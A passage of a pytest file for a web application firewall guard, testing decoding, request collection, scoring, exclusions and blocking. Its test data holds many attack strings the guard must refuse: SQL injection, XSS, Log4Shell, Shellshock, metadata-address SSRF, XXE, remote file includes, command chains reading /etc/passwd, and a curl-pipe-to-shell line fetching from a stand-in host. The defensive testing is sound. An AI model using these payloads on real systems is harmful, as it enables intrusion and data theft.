"""The WAF guard: decoding, what it collects from a request, scoring, exclusions, limits, the quick
clean-at-a-glance path, and blocking through the real proxy."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
from typing import Any
from urllib.parse import quote, unquote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.config import parse_config
from bastion.config.waf import WAFConfig
from bastion.core.context import Context
from bastion.core.request import Headers, Request
from bastion.engine import Engine
from bastion.guards.waf import WAFGuard
from bastion.guards.waf.checks.rfi import rfi
from bastion.guards.waf.checks.sqli import sqli_score
from bastion.guards.waf.checks.ssrf import internal_address, parse_ipv4, ssrf
from bastion.guards.waf.collect import collect
from bastion.guards.waf.decode import _BACKSLASH_ESCAPE, base64_text, normalize
from bastion.guards.waf.glance import clean_at_a_glance
from bastion.guards.waf.inspected import Limits, Target
from bastion.guards.waf.shell_words import shell_view
from bastion.guards.waf.views import path_view, php_view, sql_view, views
from tests.proxy_harness import running_proxy
from tests.servers import ThreadedUvicorn


def request(  # noqa: PLR0913  a request's parts, all keyword arguments with defaults
    method: str = "GET",
    path: str = "/api/items",
    query: str = "",
    body: bytes | str | None = None,
    content_type: str | None = None,
    headers: list[tuple[str, str]] | None = None,
) -> Request:
    fields = [("host", "api.test"), ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0")]
    fields += headers or []
    data = body.encode() if isinstance(body, str) else body
    if content_type:
        fields.append(("content-type", content_type))
    return Request(method=method, path=path, query=query, headers=Headers(fields), client="127.0.0.1", body=data)


@pytest.fixture(scope="module")
def guard() -> WAFGuard:
    return WAFGuard(WAFConfig())


def verdict_of(guard: WAFGuard, req: Request) -> Any:
    return guard.check(req, Context("waf-test-000001"))


# -- decoding ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "form", "expected"),
    [
        ("%27%20OR%201%3D1", False, "' or 1=1"),
        ("%2527", False, "'"),  # double encoding
        ("%252527", False, "'"),  # three rounds
        ("a+b", True, "a b"),
        ("a+b", False, "a+b"),
        ("%u003cscript%u003e", False, "<script>"),
        ("%c0%ae%c0%ae%c0%af", False, "../"),  # overlong UTF-8
        ("&lt;img&#x20;src&#61;x&gt;", False, "<img src=x>"),
        ("\\x3cscript\\u003e", False, "<script>"),
        ("\\n", False, "\n"),
        ("\uff1cscript\uff1e", False, "<script>"),  # full-width
        ("SeLeCt", False, "select"),
        ("sel\x00ect", False, "select"),
        ("+ADw-script+AD4-", False, "<script>"),  # UTF-7
        ("=?UTF-8?Q?Hi=0D=0ABcc=3A_x@evil.example?=", False, "hi\r\nbcc: x@evil.example"),  # RFC 2047 Q
        ("=?utf-8?B?PHNjcmlwdD4=?=", False, "<script>"),  # RFC 2047 B
        ("=?ISO-8859-1?Q?Andr=E9?= Pirard", False, "andré pirard"),
        ("=?x-unknown?Q?a=3Db?=", False, "a=b"),  # an unknown charset reads as Latin-1
        ("1%A0or%A01=1", False, "1 or 1=1"),  # a stray Latin-1 no-break space
        # an escaped `<` between an HTML value's tags is text; inside a tag, or with no tag, it decodes
        ("<pre><code>&lt;script&gt;</code></pre>", False, "<pre><code>\u2039script></code></pre>"),
        ("<p>a &#60;b&#x3C;c &LT;d</p>", False, "<p>a \u2039b\u2039c \u2039d</p>"),
        ('<iframe srcdoc="&lt;script&gt;">', False, '<iframe srcdoc="<script>">'),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", False, "<script>alert(1)</script>"),
        ("<b>&#600;</b>", False, "<b>\u0258</b>"),  # another character
    ],
)
def test_normalize(raw: str, form: bool, expected: str) -> None:
    assert normalize(raw, form=form) == expected


def test_normalize_is_bounded_on_nested_encodings() -> None:
    nested = "%25" * 10 + "41"
    assert "%" in normalize(nested)  # three rounds, not ten: the cap holds


def test_views() -> None:
    assert path_view("..\\..\\windows\\win.ini") == "../../windows/win.ini"
    assert path_view("..0x2f..0x2fetc") == "../../etc"
    assert path_view("/./\\/./windows/win.ini") == "/windows/win.ini"
    assert path_view("??\\??\\etc\\issue") == "../../etc/issue"
    assert path_view("\\\\host\\c$\\x").startswith("//host/")  # a UNC host keeps its double slash
    assert sql_view("un/**/ion sel/*x*/ect 1") == "un ion sel ect 1"
    assert sql_view("1/*!50000union*/select") == "1 union select"  # version comments run in MySQL
    assert sql_view("'+or+1=1") == "' or 1=1"
    assert shell_view("w'h'o'am'i c\\at c$@at") == "whoami cat cat"
    # a contraction's one apostrophe opens a string to a shell, running past the spaces: no glue
    # (`I'd like` read as the command `id` blocked a customer's email, from the blind sets)
    assert shell_view("it's fine") == "it's fine"
    assert shell_view("hello,\n\ni'd like to move my delivery") == "hello,\n\ni'd like to move my delivery"
    assert shell_view("c'a't /etc/passwd;w'h'o'a'm'i") == "cat /etc/passwd;whoami"
    # unset variables and positional parameters spliced into words; ${IFS} is a space, not glue
    assert shell_view("c${u}at /et$1c/pas${}swd") == "cat /etc/passwd"
    assert shell_view("cat${ifs}/etc/passwd") == "cat${ifs}/etc/passwd"
    assert shell_view("c^m^d /c who^ami") == "cmd /c whoami"  # cmd.exe's escape character
    assert php_view("$a/*x*/(1) // c\n;") == "$a (1) ;"


@pytest.mark.parametrize(
    ("raw", "cut"),
    [
        ("http://evil.example/c99.php%00", "http://evil.example/c99.php\x00"),
        ("/etc/passwd%00.png", "/etc/passwd\x00"),
        ("/etc/passwd%2500.png", "/etc/passwd\x00"),  # encoded twice
        ("../../etc/passwd\\0.jpg", "../../etc/passwd\x00"),
        ("../../etc/passwd\\x00.jpg", "../../etc/passwd\x00"),
        ("../../etc/passwd\\u0000.jpg", "../../etc/passwd\x00"),
        ("/etc/passwd\x00.png", "/etc/passwd\x00"),  # a NUL a JSON parser decoded
    ],
)
def test_a_value_with_a_nul_is_also_read_cut_at_it(raw: str, cut: str) -> None:
    """What a C-string API (include, fopen) opens: the part before the first NUL, NUL kept as the
    mark of the cut; the reading with NULs dropped stays."""
    texts = [text for variant, text in views(raw) if variant == "text"]
    assert (
        texts[0]
        == raw.replace("%2500", "")
        .replace("%00", "")
        .replace("\\u0000", "")
        .replace("\\x00", "")
        .replace("\\0", "")
        .replace("\x00", "")
        .lower()
    )
    assert cut in texts


def test_a_value_without_a_nul_has_no_cut_reading() -> None:
    assert all("\x00" not in text for _, text in views("C:\\0day\\notes.txt"))  # `\0d`: not an escape
    assert views("%00") == [("text", "")]  # nothing before the NUL: no second reading


@pytest.mark.parametrize(
    "req",
    [
        request(query="page=http://evil.example/c99.php%00"),
        request(headers=[("x-forwarded-host", "http://evil.example/c99.php%00")]),
        request(headers=[("cookie", "tpl=http://evil.example/shell.txt%00")]),
        request("POST", body='{"/etc/passwd%00.png": 1}', content_type="application/json"),
        request("POST", body='{"doc": "/etc/passwd\\u0000.png"}', content_type="application/json"),
        request(path="/download/%2Fetc%2Fpasswd%00.pdf"),
        request("POST", body="file=%2Fetc%2Fshadow%00.jpg", content_type="application/x-www-form-urlencoded"),
    ],
)
def test_nul_cut_values_are_blocked_in_every_location(guard: WAFGuard, req: Request) -> None:
    verdict = verdict_of(guard, req)
    assert verdict is not None
    assert verdict.category in ("rfi", "traversal")


def test_views_are_linear_on_comment_floods() -> None:
    assert set(sql_view("/*" * 40_000)) <= {" ", "*"}  # `/*/*/` is a comment, then a `*`: as MySQL reads it
    assert len(shell_view("a'" * 40_000)) < 80_000


def test_base64_text() -> None:
    assert base64_text(base64.b64encode(b"require('child_process')").decode()) == "require('child_process')"
    assert base64_text("0123456789abcdef0123456789abcdef") is None  # a hex token decodes to noise
    assert base64_text("short") is None
    # a PHP serialized object names its protected properties between NULs: still text
    gadget = b'O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}'
    assert base64_text(base64.b64encode(gadget).decode()) == gadget.decode()


# -- what is inspected ------------------------------------------------------------------------------


def test_collect_reads_everything_a_client_controls() -> None:
    body = json.dumps({"user": {"name": "ann", "tags": ["x", "y"]}, "n": 1})
    req = request(
        "POST",
        "/api/items/7",
        "q=shoes&page=2",
        body,
        "application/json",
        headers=[("cookie", "sid=abc; theme=dark"), ("x-custom", "value"), ("accept-language", "en")],
    )
    inspected = collect(req, Limits())
    seen = {(t.location, t.kind) for t in (inspected.target(i) for i in range(len(inspected.texts)))}
    assert {
        ("path", "path"),
        ("query.q", "query_key"),
        ("query.q", "query"),
        ("header.x-custom", "header"),
        ("cookie.sid", "cookie"),
        ("body.user", "json_key"),
        ("body.user.name", "json"),
        ("body.user.tags.1", "json"),
    } <= seen
    assert ("header.accept-language", "header_plumbing") not in seen  # nothing there worth reading


def test_collect_forms_multipart_and_xml() -> None:
    form = collect(request("POST", body="a=1&b=%27x", content_type="application/x-www-form-urlencoded"), Limits())
    assert "'x" in form.texts
    multipart = (
        b'--b\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n'
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="../x.php"\r\n\r\n<?php x ?>\r\n'
        b'--b\r\nContent-Disposition: form-data; name="img"; filename="a.png"\r\n\r\n\x89PNG\x00\x01\r\n--b--\r\n'
    )
    parts = collect(request("POST", body=multipart, content_type="multipart/form-data; boundary=b"), Limits())
    assert {"hello", "../x.php", "<?php x ?>", "a.png"} <= set(parts.texts)
    assert not any("png\x00" in text for text in parts.texts)  # binary file content is not read
    xml = collect(request("POST", body='<a href="x">text</a>', content_type="application/xml"), Limits())
    assert {"x", "text"} <= set(xml.texts)
    # XML need not escape `>` in text: a text node runs to the next tag, so the markup an application
    # would render from it is read whole (`&lt;style>` split it before)
    note = "<r><note>&lt;style>@import 'http://evil.example/x.css';&lt;/style></note></r>"
    assert (
        "<style>@import 'http://evil.example/x.css';</style>"
        in collect(request("POST", body=note, content_type="application/xml"), Limits()).texts
    )


def test_cdata_sections_are_read_as_the_text_they_hold(guard: WAFGuard) -> None:
    """A CDATA section's `<` is not markup, so the text-node reading never saw it: a command chain
    in one passed, while the same text in an element was refused."""
    body = "<?xml version='1.0'?><run><db><![CDATA[127.0.0.1; ping -c 3 evil.example]]></db></run>"
    assert (
        "127.0.0.1; ping -c 3 evil.example"
        in collect(request("POST", body=body, content_type="application/xml"), Limits()).texts
    )
    assert verdict_of(guard, request("POST", body=body, content_type="application/xml")) is not None
    unclosed = "<r><![CDATA[<script>alert(1)</script>"
    assert (
        "<script>alert(1)</script>"
        in collect(request("POST", body=unclosed, content_type="application/xml"), Limits()).texts
    )
    two = "<r><a><![CDATA[one]]></a><b><![CDATA[two]]></b></r>"
    assert {"one", "two"} <= set(collect(request("POST", body=two, content_type="application/xml"), Limits()).texts)


def test_oversized_requests_are_marked_and_blocked_by_default(guard: WAFGuard) -> None:
    big = json.dumps({"note": "a" * 40_000})
    verdict = verdict_of(guard, request("POST", body=big, content_type="application/json"))
    assert verdict is not None
    assert verdict.rule == "waf.inspection-limit"
    prefix = WAFGuard(WAFConfig(oversize="inspect_prefix"))
    assert verdict_of(prefix, request("POST", body=big, content_type="application/json")) is None
    hidden = json.dumps({"a": "a" * 40_000, "b": "' or 1=1--"})
    assert verdict_of(prefix, request("POST", body=hidden, content_type="application/json")) is None  # past the limit
    # Opaque text bodies are inspected too (issue 17, blind spot 6): past max_value the oversize
    # policy applies to them as to any body; with inspect_prefix their start is still read.
    assert verdict_of(guard, request("PUT", body="x" * 200_000, content_type="text/plain")) is not None
    assert verdict_of(prefix, request("PUT", body="x" * 200_000, content_type="text/plain")) is None
    assert verdict_of(
        prefix, request("PUT", body="<script>alert(1)</script>" + "x" * 200_000, content_type="text/plain")
    )
    # Binary content is bytes to store, not text to parse: it is not read, and not oversized.
    assert (
        verdict_of(guard, request("PUT", body=b"\x89PNG\x00\x01" * 40_000, content_type="application/octet-stream"))
        is None
    )


# -- detection and scoring --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("req", "categories"),
    [
        (request(query="id=1%27%20OR%20%271%27%3D%271"), "sqli"),
        (request(query="q=%3Csvg%2Fonload%3Dalert(1)%3E"), "xss"),
        (request(query="host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"), "cmdi"),
        (request(query="host=127.0.0.1%3Bc%24%7Bu%7Dat%20%2Fet%241c%2Fpasswd"), "cmdi"),  # c${u}at /et$1c/passwd
        (request(path="/static/..%252f..%252f..%252fetc/passwd"), "traversal"),
        (request(headers=[("accept-language", "../../../../etc/passwd")]), "traversal"),  # a locale file
        (request("POST", body='{"user": {"$ne": null}}', content_type="application/json"), "nosqli"),
        (request("POST", body='{"__proto__": {"admin": true}}', content_type="application/json"), "prototype"),
        (request(headers=[("x-api-version", "${${lower:j}ndi:ldap://x.example/a}")]), "log4shell"),
        (request(headers=[("user-agent", "() { :; }; /bin/bash -c id")]), "shellshock cmdi"),
        (request(query="url=http://169.254.169.254/latest/meta-data/"), "ssrf rfi"),
        (request(query="name=%7B%7B7*7%7D%7D"), "ssti"),
        (
            request(
                "POST",
                body='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
                content_type="application/xml",
            ),
            "xxe",
        ),
        (request(query="user=*)(uid=*))(|(uid=*"), "ldapi"),
        (request(query="next=%0d%0aSet-Cookie:%20a=b"), "crlf"),
        (request(headers=[("cookie", "p=" + base64.b64encode(b"<script>alert(1)</script>").decode())]), "xss"),
    ],
)
def test_attacks_are_blocked_with_their_category_and_location(guard: WAFGuard, req: Request, categories: str) -> None:
    verdict = verdict_of(guard, req)
    assert verdict is not None
    assert verdict.status == 403
    assert verdict.category in categories.split()
    assert verdict.rule.startswith("waf.")
    assert verdict.location


@pytest.mark.parametrize(
    "req",
    [
        request(query="q=rock%27n%27roll&sort=-price"),
        request(
            "POST",
            body=json.dumps({"comment": "I'd like to order 1 or 2 items; it's for my mother's birthday"}),
            content_type="application/json",
        ),
        request(
            "POST",
            body=json.dumps({"html": '<p>Hello <a href="https://example.com/x">link</a></p>'}),
            content_type="application/json",
        ),
        request(
            "POST", body=json.dumps({"sql": "SELECT id FROM users WHERE id = 42"}), content_type="application/json"
        ),
        request(query="path=docs/setup.md&url=https%3A%2F%2Fcdn.example.com%2Fa.png"),
        request(
            "POST",
            body=json.dumps({"snippet": "if (confirm('Delete this item?')) { remove(id); }"}),
            content_type="application/json",
        ),
        request(headers=[("cookie", "session=0123456789abcdef0123456789abcdef; theme=dark")]),
    ],
)
def test_ordinary_requests_pass(guard: WAFGuard, req: Request) -> None:
    assert verdict_of(guard, req) is None


def test_an_indented_line_after_a_line_break_is_folding_not_a_new_header(guard: WAFGuard) -> None:
    # A GraphQL document in a query parameter: its aliases (`en: translation(...)`) sit on indented
    # lines. A line that opens with space or tab continues the previous header (obs-fold, RFC 9112
    # section 5.2: servers reject it or read it as a space, clients as a space), so it injects nothing;
    # the same line flush after the break does.
    document = 'query T {\n  en: translation(key: "checkout.title", locale: "en")\n}'
    assert verdict_of(guard, request(query="query=" + quote(document))) is None
    injected = verdict_of(guard, request(query="query=" + quote("x\nen: translation")))
    assert injected is not None
    assert injected.category == "crlf"
    # the fields an injection is after (Set-Cookie, Location ...) stay refused even indented, for
    # lenient readers that strip the indent (crlf-field-after-token)
    assert verdict_of(guard, request(query="next=%0d%0a%20Set-Cookie:%20a=b")) is not None


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("origin", "http://127.0.0.1:8080"),
        ("origin", "http://localhost:3000"),
        ("origin", "http://[::1]:5173"),
        ("origin", "null"),
        ("referer", "http://localhost:3000/app/orders?page=2&sort=date"),
        ("referer", "http://127.0.0.1:5173/"),
        ("referer", "http://10.0.0.12:8080/dashboard/"),
    ],
)
def test_a_browser_origin_or_referer_on_this_machine_passes(guard: WAFGuard, name: str, value: str) -> None:
    # A WebSocket or CORS request from a page served on loopback (a developer's front end) names its
    # origin; that is not a request forgery nor a remote include. A page that sends its whole address
    # as Referer to another host sends its Origin too.
    origin = [("origin", "/".join(value.split("/", 3)[:3]))] if name == "referer" else []
    req = request(path="/ws", headers=[("upgrade", "websocket"), ("connection", "upgrade"), (name, value), *origin])
    assert verdict_of(guard, req) is None
    assert not guard.inspect(req)[0]


@pytest.mark.parametrize(
    ("referer", "origin"),
    [
        ("http://127.0.0.1:8080/actuator/env", None),  # an internal service's page, no browser's Origin
        ("http://localhost:2375/containers/json", None),
        ("http://10.20.0.15:8080/manager/html", "http://10.20.0.15:8081"),  # another page's origin
        ("http://evil.example/shell.txt?", None),  # a remote include by referer
    ],
)
def test_a_referer_no_browser_would_send_is_inspected(guard: WAFGuard, referer: str, origin: str | None) -> None:
    """Since 2020 a browser names another host's page to it by origin only, unless the page allows
    more; then it sends its Origin beside it (CORS, POST, WebSocket). A whole address alone was
    written by hand, for an application that fetches or logs its referers (blind sets 5, 6, 8, 10, 11)."""
    headers = [("referer", referer), *([("origin", origin)] if origin else [])]
    assert verdict_of(guard, request(headers=headers)) is not None


def test_a_referer_of_this_host_or_by_origin_only_passes(guard: WAFGuard) -> None:
    fields = [("host", "10.0.0.12:8080"), ("referer", "http://10.0.0.12:8080/dashboard/")]
    same_host = Request(method="GET", path="/api/items", query="", headers=Headers(fields), client="10.0.0.7")
    assert verdict_of(guard, same_host) is None
    assert verdict_of(guard, request(headers=[("referer", "http://127.0.0.1:8080/")])) is None


@pytest.mark.parametrize(
    ("name", "value", "category"),
    [
        ("referer", "http://127.0.0.1/?q=<script>alert(1)</script>", "xss"),
        ("referer", "http://localhost/?id=1' union select password from users--", "sqli"),
        ("origin", "http://localhost/../../etc/passwd", "traversal"),
        ("referer", "http://127.0.0.1/x\r\nSet-Cookie: a=b", "crlf"),
    ],
)
def test_a_browser_url_header_carrying_more_is_inspected(guard: WAFGuard, name: str, value: str, category: str) -> None:
    req = request(headers=[(name, value.replace("\\r\\n", "\r\n"))])
    assert verdict_of(guard, req) is not None
    assert category in {match.rule.category for match in guard.inspect(req)[0]}


@pytest.mark.parametrize(
    ("name", "value", "category"),
    [
        ("referer", "https://shop.example.com/?q=1+OR+1=1--", "sqli"),
        ("referer", "https://shop.example.com/search?id=1%20AND%201%3D1", "sqli"),
        ("referer", "https://shop.example.com/?file=/proc/self/environ", "traversal"),
        ("referer", "https://shop.example.com/?next=http://2130706433/", "ssrf"),
        # no special character: a long plain value is read too (base64 of {{ config.items() }}, a gadget class)
        ("referer", "https://shop.example.com/?q=e3sgY29uZmlnLml0ZW1zKCkgfX0", "ssti"),
        ("referer", "https://shop.example.com/?c=com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "java"),
        ("x-original-url", "/admin/export?id=1' or '1'='1", "sqli"),
        ("x-callback-url", "https://hooks.example.com/cb?to=http://169.254.169.254/latest/meta-data/", "ssrf"),
    ],
)
def test_the_query_of_a_url_in_a_header_is_read_like_a_query(
    guard: WAFGuard, name: str, value: str, category: str
) -> None:
    """Logs and analytics store a referer's parameters, redirects follow a return address: each
    parameter gets every technique, as the request's own query does (the whole URL hid a tautology)."""
    req = request(headers=[(name, value)])
    assert not clean_at_a_glance(req, guard.engine, guard._limits, True)
    matches = guard.inspect(req)[0]
    assert category in {match.rule.category for match in matches}
    assert any(f"header.{name}?" in match.target.location for match in matches if match.rule.category == category)
    assert verdict_of(guard, req) is not None


@pytest.mark.parametrize(
    "value",
    [
        "https://www.google.com/search?q=best+union+jobs+near+me&hl=en",
        "https://shop.example.com/orders?page=2&sort=-created_at&filter=status:open",
        "https://docs.example.com/guide?section=select-from-where#joins",
        "https://app.example.com/callback?code=4%2F0AbCdEf&state=xyz%3D%3D",
    ],
)
def test_an_ordinary_referer_with_a_query_passes(guard: WAFGuard, value: str) -> None:
    assert verdict_of(guard, request(headers=[("referer", value)])) is None


@pytest.mark.parametrize(
    "value",
    ["http://169.254.169.254/latest/", "http://7f000001.nip.io/", "http://0x7f000001/", "http://[::ffff:a9fe:a9fe]/"],
)
def test_a_referer_no_browser_writes_is_inspected(guard: WAFGuard, value: str) -> None:
    verdict = verdict_of(guard, request(headers=[("referer", value)]))
    assert verdict is not None
    assert verdict.category == "ssrf"


@pytest.mark.parametrize(
    "value",
    ["confirm(1)", "if(confirm('x'))alert(1)", "if (confirm('sure?')) { alert(document.cookie) }", "confirm('Sure?')"],
)
def test_a_dialog_probe_is_still_a_sink(guard: WAFGuard, value: str) -> None:
    """Only a question asked as the condition of application code is spared, not the call itself."""
    assert verdict_of(guard, request(query="q=" + quote(value, safe=""))) is not None


def test_a_weak_signal_alone_does_not_block(guard: WAFGuard) -> None:
    ctx = Context("waf-test-000002")
    # A whole SQL statement in a field is a warning (3 points), below the threshold of 5.
    req = request(
        "POST", body=json.dumps({"q": "select name from t where a = b and c"}), content_type="application/json"
    )
    assert guard.check(req, ctx) is None
    matches, _ = guard.inspect(req, ctx)
    assert [(m.rule.id, m.score) for m in matches] == [("sqli-syntax", 3)]


def test_thresholds_per_category() -> None:
    strict = WAFGuard(WAFConfig(thresholds={"sqli": 3}))
    req = request(
        "POST", body=json.dumps({"q": "select name from t where a = b and c"}), content_type="application/json"
    )
    assert verdict_of(strict, req) is not None


def test_exclusions_by_field_path_and_category() -> None:
    html = request(
        "POST", "/api/posts", body=json.dumps({"body": "<script>x()</script>"}), content_type="application/json"
    )
    excluded = WAFGuard(WAFConfig(exclusions=[{"field": "body.body", "categories": ["xss"]}]))
    assert verdict_of(excluded, html) is None
    elsewhere = WAFGuard(WAFConfig(exclusions=[{"path": "/api/docs/**", "categories": ["xss"]}]))
    assert verdict_of(elsewhere, html) is not None
    by_rule = WAFGuard(WAFConfig(exclusions=[{"rules": ["xss-html"]}]))
    assert verdict_of(by_rule, html) is None or verdict_of(by_rule, html).rule != "waf.xss-html"


def test_paranoia_adds_rules() -> None:
    assert len(WAFGuard(WAFConfig(paranoia=2)).engine.rules) > len(WAFGuard(WAFConfig(paranoia=1)).engine.rules)


def test_sqli_tokenizer_reads_shapes_not_words() -> None:
    # The check reads normalised (lower-cased) values, as the engine hands them over.
    assert sqli_score("1' and sleep(5)#")[0] == 5
    assert sqli_score("-1 union all select null,password from users--")[0] == 5
    assert sqli_score(" and 1=0--")[0] == 5
    assert sqli_score("admin'--")[0] == 5
    assert sqli_score("O'Brien")[0] == 0
    assert sqli_score('7" #2 CIRCULAR NEEDLE')[0] == 0  # a comment that carries prose
    assert sqli_score("I'd like to order 1 or 2 items")[0] == 0


def test_sqli_reads_through_odbc_escapes() -> None:
    # MySQL evaluates `{anything expr}` as expr: the braces hide the shape from a reader that stops at `{`
    assert sqli_score("9999 or {if length((select username from user where id=1))>0}")[0] == 5
    assert sqli_score("' or {x 1}={x 1}--")[0] == 5
    assert sqli_score("my {favorite thing} or {another one}")[0] == 0


def test_sqli_clause_after_a_break_out_needs_a_condition() -> None:
    # the quote of a quotation, then "where" as a word of the sentence: no condition follows it
    assert sqli_score('he asked, "where\'s the car?" and i said, "where it always is."')[0] == 0
    assert sqli_score('she wrote "where it was" and left; that\'s all ;)')[0] == 0
    assert sqli_score("where 2 = 2 mysql meaning")[0] == 0
    assert sqli_score("x' where 1=1--")[0] == 5
    assert sqli_score("x' having 1=1#")[0] == 5
    assert sqli_score("1 where 1=1 and 1=0")[0] == 5
    assert sqli_score("' where sleep(5)--")[0] == 5


def test_sqli_update_of_a_placeholder_is_a_prepared_statement() -> None:
    code = 'db.prepare("update carts set total = ? where id = ?").run(total, id)'
    assert sqli_score(code)[0] == 0
    assert sqli_score("x' update users set password='pwned' where name='admin'--")[0] == 5
    assert sqli_score("x' update users set admin=1--")[0] == 5


@pytest.mark.parametrize(
    "script",
    [
        "SELECT name FROM products\nUNION ALL\nSELECT name FROM archived_products;",
        "UPDATE orders SET status = 'shipped' WHERE id IN (SELECT order_id FROM shipments WHERE sent = true);",
        "BEGIN;\nDROP TABLE IF EXISTS tmp_import;\nDELETE FROM sessions WHERE expires_at < now();\nCOMMIT;\n",
        "WITH ranked AS (\n  SELECT *, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY created_at DESC) AS rn\n"
        "  FROM orders\n)\nSELECT * FROM ranked WHERE rn = 1;",
    ],
)
def test_sqli_a_whole_script_is_weak_evidence(script: str) -> None:
    """A value that opens with a statement keyword and ends with `;` is a query shown or kept: where a
    value belongs in a statement, it is a syntax error. 3 blocks only beside another signal."""
    assert sqli_score(script.lower())[0] == 3


def test_sqli_a_script_still_carries_what_an_injection_needs() -> None:
    # the same words without the script's shape (no closing `;`, or not opening with a statement)
    assert sqli_score("select name from products union all select password from users")[0] == 5
    assert sqli_score("1 union all select name from archived_products;")[0] == 5
    assert sqli_score("name; drop table users;")[0] == 5
    # inside a script: a time delay, a quote that breaks out before the script's own statement
    assert sqli_score("select if(version() like '5%', sleep(5), 0);")[0] == 5
    assert sqli_score("x' union select password from users;")[0] == 5


def test_sqli_postgresql_containment_compares_like_equality() -> None:
    assert sqli_score("""x' or '{"a":1}'::jsonb @> '{"a":1}'::jsonb--""")[0] == 5
    assert sqli_score("1 or '{1,2}'::int[] <@ '{1,2,3}'::int[]")[0] == 5
    assert sqli_score("ping <@u123> about the release")[0] == 0  # a chat mention


def test_sqli_reads_a_whole_condition_followed_by_one_that_always_holds(guard: WAFGuard) -> None:
    """A filter an API pastes after WHERE: a condition, then `or` a comparison of equal constants
    (from the twelfth blind set's miss, a GraphQL `filter` argument). Two real conditions joined,
    and a number or a word followed by words, are how people write."""
    always = ("name = 'a' or 1=1 --", "status = 'open' or 'a'='a'", "price > 10 or 2>1", "x=1 or true", "1 or true")
    for value in always:
        assert sqli_score(value)[0] == 5, value
    for value in ("name = 'a' or name = 'b'", "price > 10 or 2>3", "cats or dogs", "pick 1 or true love", "1 or 2"):
        assert sqli_score(value)[0] == 0, value
    graphql = json.dumps({"query": "{ users(filter: \"name = 'a' OR 1=1 --\") { id email } }"})
    refused = verdict_of(guard, request("POST", "/graphql", body=graphql, content_type="application/json"))
    assert refused is not None
    assert refused.category == "sqli"


@pytest.mark.parametrize(
    ("value", "category", "without_nul"),
    [
        ("victim@example.com%00attacker@evil.example", "crlf", "victim@example.com"),
        ("foo@bar.com%00Bcc:%20null@x.example", "crlf", "foo@bar.com"),
        ("admin)%00", "ldapi", "admin)"),
        ("admin*)%00", "ldapi", "admin*"),
        ("/xeis/e%00", "php", "/xeis/e"),
    ],
)
def test_a_nul_that_cuts_an_address_a_filter_or_a_pattern_short_is_refused(
    guard: WAFGuard, value: str, category: str, without_nul: str
) -> None:
    """C-string APIs (mail, LDAP, PHP's old preg_replace) end the value at the NUL: the rest of the
    application's own text is cut off, or what follows is read as another item."""
    refused = verdict_of(guard, request(query=f"q={value}"))
    assert refused is not None
    assert refused.category == category
    body = json.dumps({"q": unquote(value)})  # the NUL as JSON's \u0000
    assert verdict_of(guard, request("POST", "/api/x", body=body, content_type="application/json")) is not None
    assert verdict_of(guard, request(query=f"q={quote(without_nul)}")) is None


def test_sqli_backticks_compare_names_not_literals() -> None:
    assert sqli_score("use `<=` and `>=` for ranges, and `..` for slices")[0] == 0
    assert sqli_score("x'='x")[0] == 5
    # a statement in Markdown's inline code: after a backtick (MySQL's names) no statement runs without `;`
    assert sqli_score("Query works in psql: `UPDATE users SET plan='pro' WHERE id=85133;` but not here")[0] == 0
    assert sqli_score("x` ; drop table users--")[0] == 5
    assert sqli_score("x' insert into t(a) values(1)")[0] == 5  # SQL Server's, after a quote


def test_cmdi_reads_a_stack_trace_frame_as_one(guard: WAFGuard) -> None:
    report = "<pre>\nTypeError: x is undefined\n    at load (main.js:10:3)\n"
    report += "    at Object.<anonymous> (/srv/a.js:1:1)\n</pre>"
    java = "trace:\n\tat com.acme.Cart.total(Cart.java:42)\n\tat com.acme.Worker.run(Worker.java:88)"
    for text in (report, java):
        body = json.dumps({"comment": text})
        assert verdict_of(guard, request("POST", "/api/issues", body=body, content_type="application/json")) is None
    scheduled = json.dumps({"comment": "x\nat now + 1 minute <<< 'rm -rf /tmp/x'"})
    assert verdict_of(guard, request("POST", "/api/issues", body=scheduled, content_type="application/json"))


def test_cmdi_reads_a_value_opening_with_a_markdown_fence_or_table_as_markdown(guard: WAFGuard) -> None:
    """A fence's line break and a table's pipes are no command separators (from the thirteenth blind
    set's false positives); what the block holds is still read, and a bare pipe still chains."""
    table = "| Option | Default |\n|---|---|\n| `timeout` | `30` |\n| `retries` | `3` |"
    fence = '```\nTraceback (most recent call last):\n  File "app.py", line 4\n```\n| `timeout` | 30 |'
    for text in (table, fence):
        body = json.dumps({"body": text})
        assert verdict_of(guard, request("POST", "/api/issues", body=body, content_type="application/json")) is None
    for text in (
        "| id",
        "| a | b |\n|---|---|\n| x | y |\n`cat /etc/passwd`",
        "```\ncurl -s https://x.example/i.sh | sh\n```",
    ):
        body = json.dumps({"body": text})
        assert verdict_of(guard, request("POST", "/api/issues", body=body, content_type="application/json")), text


def test_cmdi_reads_an_empty_comment_then_a_line_break_as_a_chain(guard: WAFGuard) -> None:
    """`127.0.0.1 #` then a line break: the comment silences the rest of the application's command
    line, and the next line runs. A shebang opening a value is such a comment too, so a script's first
    line is not read as Markdown's fence is. A comment with words (`Item #4`) stays prose."""
    for value in ("127.0.0.1 #\nid", "127.0.0.1 #\nls -la", "x #\nwhoami", "#!/bin/sh\nid"):
        assert verdict_of(guard, request(query="host=" + quote(value))), value
    assert verdict_of(guard, request(query="note=" + quote("Item #4\nls the files in the folder"))) is None


def test_a_group_of_addresses_in_one_field_is_refused(guard: WAFGuard) -> None:
    """RFC 5322's `display-name: mailbox, mailbox;` in a field meant for one address: a mail library
    that parses the field as a list sends to every member. One address after a label passes."""
    group = json.dumps({"email": "Team: a@telemetry-collect.net, b@pkg-mirror.io;"})
    assert verdict_of(guard, request("POST", "/api/x", body=group, content_type="application/json"))
    for note in ("Contact: john@example.com;", "Team: a@x.example, b@y.example", "a@x.example; b@y.example"):
        body = json.dumps({"email": note})
